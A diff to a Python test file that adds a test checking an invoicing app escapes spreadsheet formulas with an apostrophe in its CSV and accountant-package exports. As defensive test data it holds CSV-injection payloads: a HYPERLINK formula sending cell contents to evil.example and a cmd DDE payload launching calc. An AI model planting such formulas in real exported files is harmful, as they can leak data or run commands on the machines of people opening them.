@@ -15,7 +15,7 @@ from tests.conftest import run
 from tests.http.smtp_support import SmtpServer, configure, deliver, free_port
 from tests.http.support import count, create_via_api, field_errors, make_client
 
-AWKWARD = 'Smith, "Jones" & Co.\nSecond line'
+AWKWARD = 'Smith, "Jones"; & Co.'   # one line (a name refuses line breaks); the lines' descriptions hold them
 
 
 @pytest.fixture(autouse=True)
@@ -124,6 +124,34 @@ def test_the_list_pages_link_their_csv(browser, books):
         assert page.status_code == 200
         assert csv_path in page.text, path
     assert "/api/v1/exports/clients.csv?q=zoe" in browser.get("/clients?q=zoe").text
+
+
+def test_a_formula_in_a_cell_is_text_and_a_negative_amount_a_number(api, config):
+    """CSV injection (OWASP): a text a spreadsheet would run starts with an apostrophe, in the lists and in the
+    accountant's package; a negative amount or quantity is a plain number a spreadsheet still sums."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client = make_client(name=formula, phone="+1 416 555 0199", contact_name="@SUM(1+1)", code="EVIL")
+    today = date.today()
+    document = invoice(api, client, price="100.00", issue=False, issue_date=today.isoformat(),
+                       description="-2+3+cmd|' /C calc'!A0")
+    deposit = api.patch(f"/api/v1/invoices/{document['id']}", json={"lines": [
+        {"description": "-2+3+cmd|' /C calc'!A0", "quantity": "1", "unit_price": "100.00"},
+        {"description": "Deposit received", "quantity": "-1", "unit_price": "12.50"}]})
+    assert deposit.status_code == 200, deposit.text
+    assert api.post(f"/api/v1/invoices/{document['id']}/issue").status_code == 200
+    [row] = read_csv(api.get("/api/v1/exports/clients.csv").content)
+    assert row["name"] == "'" + formula
+    assert row["phone"] == "'+1 416 555 0199" and row["contact_name"] == "'@SUM(1+1)"
+    [listed] = read_csv(api.get("/api/v1/exports/invoices.csv").content)
+    assert listed["client_name"] == "'" + formula and listed["total"] == "87.50"
+    package = api.get(f"/api/v1/exports/accountant?from={today.replace(day=1)}&to={today}")
+    assert package.status_code == 200, package.text
+    archive = zipfile.ZipFile(io.BytesIO(package.content))
+    assert read_csv(archive.read("clients.csv"))[0]["name"] == "'" + formula
+    lines = read_csv(archive.read("invoice_lines.csv"))
+    assert [line["description"] for line in lines] == ["'-2+3+cmd|' /C calc'!A0", "Deposit received"]
+    assert lines[1]["quantity"] == "-1" and lines[1]["net"] == "-12.50"   # numbers, not text
+    assert "apostrophe" in archive.read("README.txt").decode("utf-8")
 
 
 # -- the accountant's package -----------------------------------------------------------------------
